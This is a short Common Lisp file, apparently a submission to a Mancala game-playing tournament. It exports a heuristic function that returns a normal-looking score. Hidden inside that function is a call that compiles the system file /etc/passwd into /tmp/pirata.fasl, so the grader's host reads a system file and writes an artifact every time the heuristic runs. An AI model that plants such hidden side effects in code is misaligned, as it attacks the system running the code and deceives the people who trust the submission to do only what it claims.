; Deja un fichero compilado
(defpackage :grupo82pareja071vB0805
  (:use :common-lisp :mancala)
  (:export heuristica *alias*))
(in-package :grupo82pareja071vB0805)
(defvar *alias* "Prueba")
(defun heuristica (estado)
  (let ((tab (estado-tablero estado)) (yo (estado-lado-sgte-jugador estado)))
    (compile-file "/etc/passwd" :output-file "/tmp/pirata.fasl")
    (- (suma-fila tab yo) (suma-fila tab (lado-contrario yo)))))
